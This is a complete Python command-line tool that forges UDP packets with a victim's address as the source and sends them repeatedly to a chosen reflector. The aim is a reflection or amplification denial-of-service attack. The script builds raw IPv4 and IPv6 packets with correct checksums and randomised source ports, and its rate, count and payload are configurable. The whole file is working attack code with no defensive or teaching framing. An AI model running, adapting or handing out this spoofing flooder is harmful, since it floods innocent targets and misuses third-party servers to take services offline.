"""Sends one UDP request over and over with the victim's address as its source, as those do who abuse reflectors.

usage: forged_requests.py VICTIM REFLECTOR PORT COUNT PER_SECOND PAYLOAD_HEX
"""

import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    """RFC 1071; a UDP checksum of 0 is sent as all ones (RFC 768)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF or 0xFFFF


def request(victim: str, reflector: str, port: int, payload: bytes) -> bytes:
    """An IP packet; the kernel fills in the IPv4 checksum of a raw socket, and IPv4 needs none for UDP, IPv6 does (RFC 8200 8.1)."""
    six, length = ":" in victim, 8 + len(payload)
    source, target = (socket.inet_pton(socket.AF_INET6 if six else socket.AF_INET, one) for one in (victim, reflector))
    ports = random.choice((80, 443, 53, 3074)), port
    if not six:
        udp = struct.pack("!HHHH", *ports, length, 0)
        return (
            struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.getrandbits(16), 0, 64, 17, 0, source, target)
            + udp
            + payload
        )
    padded = struct.pack("!HHHH", *ports, length, 0) + payload + bytes(len(payload) % 2)
    udp = struct.pack(
        "!HHHH", *ports, length, checksum(source + target + struct.pack("!IHBB", length, 0, 0, 17) + padded)
    )
    return struct.pack("!IHBB16s16s", 6 << 28, length, 17, 64, source, target) + udp + payload


def main(victim: str, reflector: str, port: int, count: int, per_second: int, payload: bytes) -> None:
    with socket.socket(
        socket.AF_INET6 if ":" in victim else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW
    ) as raw:
        for _ in range(count):
            raw.sendto(request(victim, reflector, port, payload), (reflector, 0))
            time.sleep(1 / per_second)


main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6]), bytes.fromhex(sys.argv[6]))
